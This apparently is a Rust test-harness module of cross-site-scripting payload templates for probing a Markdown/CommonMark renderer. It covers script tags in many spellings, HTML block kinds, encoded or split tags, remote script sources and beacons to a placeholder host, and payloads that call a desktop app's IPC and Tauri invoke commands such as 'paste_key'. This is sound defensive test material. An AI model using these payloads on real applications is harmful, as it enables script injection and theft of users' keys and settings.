//! Script tags in every spelling, the kinds of HTML block that CommonMark knows, and what a parser may take for either.

use super::payload::{Draft, html, text};

pub(super) fn all() -> Vec<Draft> {
    [
        html("script tag", TAGS),
        html("script tag", spelled()),
        html("script source", SOURCES),
        html("HTML block", BLOCKS),
        html("HTML in a line", INLINE),
        text("HTML cut apart", CUT),
        html("command from script", COMMANDS),
    ]
    .concat()
}

const TAGS: [&str; 14] = [
    "<script>{js}</script>",
    "<script >{js}</script >",
    "<script\n>{js}</script\n>",
    "<script/x>{js}</script>",
    "<script type=module>{js}</script>",
    "<script type=text/javascript language=javascript>{js}</script>",
    "<script>/*<!--*/{js}//--></script>",
    "<script><!--\n{js}\n--></script>",
    "<script>\u{2028}{js}\u{2029}</script>",
    "<script nonce=\"\">{js}</script>",
    "<script async defer>{js}</script>",
    "<script>{js}",
    "<<script>{js}//<</script>",
    "</title></textarea></style></noscript></xmp><script>{js}</script>",
];

/// One tag in letters of either case, and with each of the characters that may part a name from what follows.
fn spelled() -> Vec<String> {
    let mut all = Vec::new();
    for name in ["SCRIPT", "ScRiPt", "sCrIpT"] {
        all.push(format!("<{name}>{{js}}</{name}>"));
    }
    for part in ["\t", "\u{c}", "/", " x=y ", " x='>' ", " x=\"</script>\" "] {
        all.push(format!("<script{part}>{{js}}</script>"));
    }
    all
}

const SOURCES: [&str; 10] = [
    "<script src=http://{http}/{n}/script.js></script>",
    "<script src=//{http}/{n}/script.js></script>",
    "<script src=https://{dns}/script.js></script>",
    "<script src=\"data:text/javascript,{js}\"></script>",
    "<script type=module src=http://{http}/{n}/module.js></script>",
    "<script type=module>import 'http://{http}/{n}/imported.js'</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"http://{http}/{n}/mapped.js\"}}</script><script type=module>import 'x'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://{http}/{n}/guessed\"]}]}</script>",
    "<script xlink:href=http://{http}/{n}/linked.js>{js}</script>",
    "<script>navigator.sendBeacon(`http://{http}/{n}/beacon`);fetch(`http://{http}/{n}/fetched`)</script>",
];

/// One and more of each of the seven kinds (CommonMark 0.31, 4.6).
const BLOCKS: [&str; 20] = [
    "<pre><script>{js}</script></pre>",
    "<style onload={js}></style>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<!-- --><script>{js}</script> -->",
    "<!--><script>{js}</script>-->",
    "<!---><script>{js}</script>-->",
    "<!-- --!><script>{js}</script> -->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<?xml version=\"1.0\"?><script>{js}</script>",
    "<?php echo '<script>{js}</script>' ?>",
    "<? foo=\"><script>{js}</script>\">",
    "<!DOCTYPE html><script>{js}</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"http://{http}/{n}/entity\">]><script>{js}</script>",
    "<!X><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<![CDATA[><script>{js}</script>]]>",
    "<div>\n<script>{js}</script>\n\n*after*\n</div>",
    "<table><tr><td><script>{js}</script></table>",
    "<made-up-element>\n<script>{js}</script>\n</made-up-element>",
    "</p>\n<script>{js}</script>",
];

const INLINE: [&str; 12] = [
    "A line with <script>{js}</script> in it.",
    "**<script>{js}</script>**",
    "# <script>{js}</script>",
    "- <script>{js}</script>",
    "> <script>{js}</script>",
    "1. one\n   <script>{js}</script>",
    "| a |\n|---|\n| <script>{js}</script> |",
    "a<b onclick={js}>b</b>",
    "`code` <img src=x onerror={js}> `code`",
    "\\<script>{js}</script>",
    "~~<script>{js}</script>~~",
    "term\n: <script>{js}</script>",
];

const CUT: [&str; 12] = [
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<scr\u{0}ipt>{js}</scr\u{0}ipt>",
    "\u{0}<script>{js}</script>",
    "<\u{0}script>{js}</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3c;img src=x onerror={js}&#x3e;",
    "\u{ff1c}script\u{ff1e}{js}\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}{js}\u{2039}/script\u{203a}",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
];

const COMMANDS: [&str; 10] = [
    "<script>{ipc}</script>",
    "<img src=x onerror=\"{ipc}\">",
    "<svg onload=\"{ipc}\">",
    "<script>window.ipc.postMessage('{\"cmd\":\"paste_key\",\"callback\":1,\"error\":2,\"payload\":{}}')</script>",
    "<script>window.webkit.messageHandlers.ipc.postMessage('{\"cmd\":\"settings_state\"}')</script>",
    "<script>fetch('ipc://localhost/settings_state',{method:'POST',body:'{}'})</script>",
    "<img src=\"ipc://localhost/settings_state\">",
    "<iframe src=\"tauri://localhost/settings.html\"></iframe>",
    "<form action=\"ipc://localhost/paste_key\" method=post><input name=request value=1><button autofocus>go</button></form>",
    "<iframe srcdoc=\"<script>parent.__TAURI_INTERNALS__.invoke('paste_key')</script>\"></iframe>",
];
